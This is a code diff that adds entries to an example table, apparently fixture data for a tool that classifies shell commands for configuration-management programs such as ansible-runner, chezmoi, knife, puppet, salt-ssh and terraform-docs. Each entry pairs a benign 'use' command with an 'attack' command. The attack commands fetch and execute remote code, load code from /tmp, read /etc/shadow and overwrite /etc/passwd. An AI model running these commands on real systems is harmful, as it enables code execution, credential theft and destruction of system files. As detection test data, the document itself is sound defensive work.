@@ -147,4 +147,34 @@ export const configurationManagement2: ExampleTable = {
       'vcsh run dotfiles bash → shell bash',
     ],
   },
+  'ansible-runner': {
+    use: 'ansible-runner run . -p site.yml → read site.yml',
+    attack:
+      'curl -so site.yml https://example.org/x && ansible-runner run . -p site.yml → execute ‹https://example.org/x›',
+  },
+  chezmoi: {
+    use: 'chezmoi -c chezmoi.toml diff → read chezmoi.toml',
+    attack:
+      'curl -so c.toml https://example.org/x && chezmoi -c c.toml diff → execute ‹https://example.org/x›',
+  },
+  knife: {
+    use: 'knife role list → nothing',
+    attack: 'knife -e /tmp/x role edit web → run /tmp/x',
+  },
+  'puppet facts': {
+    use: 'puppet facts show os.family → nothing',
+    attack: 'puppet facts show --custom-dir=/tmp own → load /tmp',
+  },
+  'puppet lookup': {
+    use: 'puppet lookup ntp::servers --facts facts.yaml → read facts.yaml',
+    attack: 'puppet lookup ntp::servers --modulepath=/tmp → load /tmp',
+  },
+  'salt-ssh': {
+    use: "salt-ssh web cmd.run 'cat notes.txt' → read notes.txt",
+    attack: "salt-ssh web cmd.run 'cat /etc/shadow' → read /etc/shadow",
+  },
+  'terraform-docs': {
+    use: 'terraform-docs markdown . --output-file README.md → write README.md',
+    attack: 'terraform-docs markdown . --output-file /etc/passwd → write /etc/passwd',
+  },
 }
